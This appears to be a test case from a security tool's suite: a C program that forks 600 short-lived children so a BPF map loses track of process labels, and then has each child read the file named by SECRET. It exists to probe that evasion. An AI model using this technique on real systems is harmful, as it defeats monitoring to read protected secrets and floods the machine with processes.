// tries: to lose its label in a crowd of short-lived tasks
// works: labels kept in a map run out of room, or of time
// see: fork bombs; BPF_MAP_TYPE_LRU_HASH as used by other tools
// goal: read
// alone: it takes the machine's time
#include "../kit.h"

int main(void)
{
	for (int i = 0; i < 600; i++) {
		pid_t child = fork();
		if (!child) {
			int fd = open(env("SECRET"), O_RDONLY);
			if (fd >= 0)
				print_from(fd);
			_exit(0);
		}
		if (child < 0)
			break;
		if (i % 50 == 49)
			while (waitpid(-1, NULL, 0) > 0)
				;
	}
	while (waitpid(-1, NULL, 0) > 0)
		;
	return 0;
}
